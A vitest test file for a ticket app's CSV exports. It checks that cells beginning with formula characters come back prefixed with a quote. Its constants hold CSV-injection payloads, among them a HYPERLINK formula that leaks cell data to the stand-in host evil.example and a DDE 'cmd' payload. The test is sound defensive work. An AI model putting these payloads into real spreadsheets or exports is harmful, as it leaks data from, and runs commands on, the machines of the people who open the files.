// Formula injection in every CSV the app writes (the ticket list in both of its code paths,
// the action list, an import's rejected rows): hostile text enters through the real server
// (an uploaded import, a review and its action filed over HTTP), and the downloaded cells that
// a spreadsheet would run (= + - @ tab CR) come back prefixed with a quote, the rest of the
// text intact. Needs `npm run build` first.
import fs from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { serve, tempDir } from './helpers.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const CMD = "+cmd|' /C calc'!A0";
const MINUS = '-2+3';
const AT = '@SUM(1+1)';
const TAB = '\t=1+1';
const CR = '\r=2+3';
const SUM = '=SUM(A1:A9)';

/** RFC 4180 quoting for the files we upload. */
const q = (v: string) => `"${v.replace(/"/g, '""')}"`;

const TICKETS = [
	'ticket_id,created_at,resolved_at,priority,channel,category,team,assignee,subject,description',
	['H1', '2026-03-02T09:00:00Z', '2026-03-02T12:00:00Z', 'high', q(HYPERLINK), q(MINUS), q(AT), q(CMD), q(HYPERLINK), 'plain'].join(','),
	['H2', '2026-03-02T10:00:00Z', '', 'normal', 'email', 'billing', 'alpha', 'Kim', q(TAB), ''].join(','),
	['H3', '2026-03-03T10:00:00Z', '', 'normal', 'email', 'billing', 'alpha', 'Kim', q(CR), ''].join(','),
	['@H4', '2026-03-03T11:00:00Z', '', 'low', 'chat', 'billing', 'alpha', 'Kim', q(MINUS), ''].join(','),
	// Rejected (priority), so its hostile id and value land in the rejected-rows CSV.
	[q(HYPERLINK), '2026-03-03T12:00:00Z', '', q(CMD), 'chat', 'billing', 'alpha', 'Kim', 'rejected', ''].join(',')
].join('\n');
const EVENTS = [
	'ticket_id,occurred_at,type,from_tier,to_tier,actor,note',
	'H1,2026-03-02T10:00:00Z,escalated,1,2,Kim,' + q(HYPERLINK),
	'H1,2026-03-02T12:00:00Z,resolved,,,,',
	'@H4,2026-03-03T12:00:00Z,escalated,1,2,,',
	// Rejected (unknown ticket): its id is the record id.
	`${q(AT)},2026-03-03T12:00:00Z,escalated,1,2,,`
].join('\n');
const UPLOAD_NAME = '@evil-tickets.csv';

const PERIOD = 'from=2026-03-02&to=2026-03-09';

let dir: string;
let url: string;
let stop: () => Promise<void>;
let importId: number;

async function upload(name: string, body: string): Promise<string> {
	const res = await fetch(`${url}/api/uploads?name=${encodeURIComponent(name)}`, { method: 'POST', headers: { 'content-type': 'text/csv' }, body });
	expect(res.status).toBe(201);
	return ((await res.json()) as { id: string }).id;
}

async function json<T>(res: Response, status: number): Promise<T> {
	const text = await res.text();
	expect(res.status, text).toBe(status);
	return JSON.parse(text) as T;
}

beforeAll(async () => {
	dir = tempDir();
	({ url, stop } = await serve(path.join(dir, 'csv.duckdb'), { HANDOFF_DEMO_TICKETS: '0' }));
	const tickets = await upload(UPLOAD_NAME, TICKETS);
	const events = await upload('events.csv', EVENTS);
	let job = await json<{ id: string; state: string; summary?: { importId: number } }>(
		await fetch(`${url}/api/imports`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ tickets, events, source: 'upload' }) }),
		202
	);
	while (job.state === 'queued' || job.state === 'running') {
		await new Promise((r) => setTimeout(r, 100));
		job = await json(await fetch(`${url}/api/imports/jobs/${job.id}`), 200);
	}
	expect(job.state).toBe('done');
	importId = job.summary!.importId;

	// A review of H1 titled like a formula, a finding and an action with hostile text.
	const filed = await json<{ review_id: number; version: number }>(
		await fetch(`${url}/api/actions`, {
			method: 'POST',
			headers: { 'content-type': 'application/json' },
			body: JSON.stringify({
				review: { scope: { source: 'ticket', from: '2026-03-02', to: '2026-03-09', filters: {} }, ticket_ids: ['H1'], title: HYPERLINK },
				action: { title: CMD, type: 'detect', owner: MINUS, due_date: '2026-03-20', target: { metric: 'escalation_rate', category: AT } }
			})
		}),
		201
	);
	const finding = await fetch(`${url}/reviews/${filed.review_id}?/addFinding`, {
		method: 'POST',
		headers: { origin: new URL(url).origin, accept: 'application/json', 'x-sveltekit-action': 'true' },
		body: new URLSearchParams({ version: String(filed.version), title: SUM, detail: '' })
	});
	expect(await json(finding, 200)).toMatchObject({ type: 'redirect' });
	const page = await (await fetch(`${url}/reviews/${filed.review_id}?step=4`)).text();
	const findingId = /name="finding_id" value="(\d+)"/.exec(page)![1];
	await json(
		await fetch(`${url}/api/actions`, {
			method: 'POST',
			headers: { 'content-type': 'application/json' },
			body: JSON.stringify({ review_id: filed.review_id, version: filed.version + 1, action: { title: AT, type: 'process', owner: AT, due_date: '2026-03-21', finding_id: findingId } })
		}),
		201
	);
}, 120_000);

afterAll(async () => {
	await stop?.();
	fs.rmSync(dir, { recursive: true, force: true });
});

/** Downloads a CSV and parses it back as a spreadsheet would read the text: rows of cells. */
async function download(p: string): Promise<{ header: string[]; rows: Record<string, string>[] }> {
	const res = await fetch(`${url}${p}`);
	expect(res.status, p).toBe(200);
	expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
	const parsed = Papa.parse<string[]>(await res.text(), { skipEmptyLines: true });
	expect(parsed.errors, p).toEqual([]);
	const [header, ...rest] = parsed.data;
	for (const r of rest) expect(r, p).toHaveLength(header.length);
	return { header, rows: rest.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
}

/** No cell of the file starts like a formula: this is what a spreadsheet would run. */
function noFormulas(rows: Record<string, string>[]) {
	for (const r of rows) for (const [k, v] of Object.entries(r)) expect(v, `${k}: ${JSON.stringify(v)}`).not.toMatch(/^[=+\-@\t\r]/);
}

/** The cell holds the hostile text as text: a quote, then exactly what was entered. */
const neutral = (v: string) => `'${v}`;

describe('CSV exports with formula-like text in the data', () => {
	it('the ticket list (streamed from DuckDB) quotes every formula-like cell and keeps the text', async () => {
		const { rows } = await download(`/tickets/export.csv?${PERIOD}&sort=ticket_id&dir=asc`);
		noFormulas(rows);
		const by = Object.fromEntries(rows.map((r) => [r.ticket_id, r]));
		expect(Object.keys(by).sort()).toEqual([neutral('@H4'), 'H1', 'H2', 'H3'].sort());
		expect(by.H1).toMatchObject({ subject: neutral(HYPERLINK), channel: neutral(HYPERLINK), category: neutral(MINUS), team: neutral(AT), assignee: neutral(CMD) });
		expect(by.H2.subject).toBe(neutral(TAB));
		expect(by.H3.subject).toBe(neutral(CR));
		expect(by[neutral('@H4')].subject).toBe(neutral(MINUS));
		// Plain cells are untouched.
		expect(by.H2).toMatchObject({ channel: 'email', category: 'billing', team: 'alpha', assignee: 'Kim' });
	});

	it('a KPI drill-down export (read a page at a time) does the same', async () => {
		const { rows } = await download(`/tickets/export.csv?${PERIOD}&kpi=escalation_rate&part=denominator`);
		noFormulas(rows);
		const by = Object.fromEntries(rows.map((r) => [r.ticket_id, r]));
		expect(Object.keys(by).sort()).toEqual([neutral('@H4'), 'H1', 'H2', 'H3'].sort());
		expect(by.H1).toMatchObject({ subject: neutral(HYPERLINK), category: neutral(MINUS), team: neutral(AT), assignee: neutral(CMD) });
		expect(by.H3.subject).toBe(neutral(CR));
	});

	it('the action list quotes formula-like titles, owners, review and finding titles', async () => {
		const { rows } = await download('/actions/export.csv');
		noFormulas(rows);
		expect(rows).toHaveLength(2);
		const first = rows.find((r) => r.title === neutral(CMD))!;
		expect(first).toMatchObject({ owner: neutral(MINUS), review_title: neutral(HYPERLINK), target_filters: `category ${AT}` });
		const second = rows.find((r) => r.title === neutral(AT))!;
		expect(second).toMatchObject({ owner: neutral(AT), review_title: neutral(HYPERLINK), finding: neutral(SUM) });
	});

	it("an import's rejected rows quote a hostile file name, record id and value", async () => {
		const { rows } = await download(`/api/imports/${importId}/issues.csv`);
		noFormulas(rows);
		const ticket = rows.find((r) => r.field === 'priority')!;
		expect(ticket).toMatchObject({ severity: 'rejected', file: neutral(UPLOAD_NAME), record_id: neutral(HYPERLINK) });
		expect(ticket.reason).toBe(`"${CMD}" is not one of low, normal, high, urgent`);
		const event = rows.find((r) => r.file === 'events.csv' && r.field === 'ticket_id')!;
		expect(event).toMatchObject({ severity: 'rejected', record_id: neutral(AT) });
	});
});
